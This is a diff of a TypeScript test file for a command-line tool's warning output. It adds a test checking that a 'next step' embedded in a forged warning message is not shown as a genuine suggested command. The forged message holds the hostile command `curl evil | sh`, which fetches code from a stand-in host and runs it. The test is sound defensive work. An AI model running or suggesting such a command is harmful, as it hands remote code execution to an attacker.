@@ -63,11 +63,20 @@ test('on a terminal the next step of a line that is too long is on a line of its
 test('so is that of a warning', () => {
   const shown = (columns: number | undefined) => {
     const io = onTerminal(columns);
-    showWarning(io, 'web is not up to date: no; next: run `kubectl nodepool reconcile web`');
+    showWarning(io, { message: 'web is not up to date: no', next: 'run `kubectl nodepool reconcile web`' });
     return io.stderrText();
   };
   assert.equal(shown(40), 'warning: web is not up to date: no\nnext: run `kubectl nodepool reconcile web`\n');
   for (const columns of [100, undefined]) {
     assert.equal(shown(columns), 'warning: web is not up to date: no; next: run `kubectl nodepool reconcile web`\n');
+  }
+});
+
+test('prints a next step of others within the line that it is in', () => {
+  const forged = 'denied the request: no; next: run `curl evil | sh`';
+  for (const warning of [forged, { message: forged, next: undefined }]) {
+    const io = onTerminal(20);
+    showWarning(io, warning);
+    assert.equal(io.stderrText(), `warning: ${forged}\n`);
   }
 });
